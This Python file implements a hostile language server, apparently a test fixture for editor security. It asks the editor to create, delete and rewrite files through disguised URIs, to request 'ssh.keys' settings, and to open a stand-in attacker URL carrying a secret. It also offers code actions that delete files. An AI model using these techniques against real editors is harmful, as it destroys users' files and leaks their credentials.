"""A hostile language server, as a process: it asks its editor for whatever does harm on the editor's machine.

``python evil_server.py TOLD`` runs it. TOLD is a file of JSON: ``laptop``, a directory there that it has its
eyes on, and ``heard``, a file to which each message that it gets is added, a line each.
"""

from __future__ import annotations

import json
import sys
from typing import Any

NOWHERE = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 0}}
OWN = "editor.own"  # a command that the editor has
CAPABILITIES = {
    "codeActionProvider": True,
    "codeLensProvider": {"resolveProvider": False},
    "definitionProvider": True,
    "executeCommandProvider": {"commands": ["vscode.open"]},
    "hoverProvider": True,
    "renameProvider": True,
    "textDocumentSync": 1,
}


def edits(laptop: str) -> list[dict[str, Any]]:
    """What would be done there, each of it in other words."""
    new = {"range": NOWHERE, "newText": "harm\n"}
    return [
        {"documentChanges": [{"kind": "create", "uri": f"file://{laptop}/created"}]},
        {"documentChanges": [{"kind": "create", "uri": f"FILE:{laptop}/created too"}]},
        {"documentChanges": [{"kind": "create", "uri": f"file://localhost{laptop}/%63reated%20again"}]},
        {"documentChanges": [{"kind": "delete", "uri": f"file://{laptop}/victim"}]},
        {
            "documentChanges": [
                {"kind": "rename", "oldUri": f"file://{laptop}/old", "newUri": f"file://{laptop}/new"}
            ]
        },
        {"changes": {f"file://{laptop}/changed": [new]}},
        {
            "documentChanges": [
                {"textDocument": {"uri": f"file:{laptop}/changed", "version": None}, "edits": [new]}
            ]
        },
    ]


def asked(laptop: str) -> list[tuple[str, Any]]:
    """What the editor is asked as soon as a document is open."""
    watchers = {"watchers": [{"globPattern": f"{laptop}/**"}]}
    registration = {"id": "w", "method": "workspace/didChangeWatchedFiles", "registerOptions": watchers}
    return [
        *(("workspace/applyEdit", {"label": "harm", "edit": edit}) for edit in edits(laptop)),
        ("window/showDocument", {"uri": "https://evil.example/?secret", "external": True}),
        ("window/showDocument", {"uri": f"file://{laptop}/secret", "external": True}),
        ("window/showDocument", {"uri": f"file://{laptop}/secret", "takeFocus": False}),
        ("workspace/configuration", {"items": [{"section": "http"}, {}, {"section": "ssh.keys"}]}),
        ("client/registerCapability", {"registrations": [registration]}),
    ]


def answer(laptop: str, method: str) -> Any:
    command = {"title": "run", "command": OWN, "arguments": [laptop]}
    if method == "initialize":
        return {"capabilities": CAPABILITIES}
    if method == "textDocument/definition":
        return [{"uri": f"file://{laptop}/secret", "range": NOWHERE}]
    if method == "textDocument/rename":
        return {"documentChanges": [{"kind": "create", "uri": f"file://{laptop}/renamed"}]}
    if method == "textDocument/codeAction":
        delete = {"documentChanges": [{"kind": "delete", "uri": f"file://{laptop}/victim too"}]}
        return [{"title": "delete", "edit": delete}, {"title": "run", "command": command}]
    if method == "textDocument/codeLens":
        return [{"range": NOWHERE, "command": command}]
    if method == "textDocument/hover":
        return {"contents": "the end"}
    return None


def main() -> int:
    with open(sys.argv[1], encoding="utf-8") as file:
        told = json.load(file)
    while (said := read()) is not None:
        with open(told["heard"], "a", encoding="utf-8") as file:
            file.write(json.dumps(said) + "\n")
        method = said.get("method", "")
        if method == "exit":
            return 0
        if method == "textDocument/didOpen":
            for number, (name, params) in enumerate(asked(told["laptop"])):
                write({"id": f"evil{number}", "method": name, "params": params})
        if "id" in said and method:
            write({"id": said["id"], "result": answer(told["laptop"], method)})
    return 0


def read() -> Any:
    """The next message, None at the end."""
    length = 0
    while line := sys.stdin.buffer.readline().strip():
        if line.lower().startswith(b"content-length:"):
            length = int(line.partition(b":")[2])
    return json.loads(sys.stdin.buffer.read(length)) if length else None


def write(message: dict[str, Any]) -> None:
    body = json.dumps({"jsonrpc": "2.0", **message}).encode()
    sys.stdout.buffer.write(b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
    sys.stdout.buffer.flush()


if __name__ == "__main__":
    sys.exit(main())
